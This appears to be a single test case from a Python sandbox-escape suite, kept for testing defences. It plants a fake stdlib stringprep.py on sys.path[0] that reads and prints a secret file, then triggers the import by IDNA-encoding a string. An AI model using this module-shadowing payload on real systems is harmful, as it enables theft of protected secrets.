# technique: encoding to idna imports stringprep: ours
# goal: read-secret
# source: sys.path[0]
# beside: stringprep.py import posix; print(posix.read(posix.open('@SECRET@', 0), 200), flush=True)
'b\xfccher'.encode('idna')
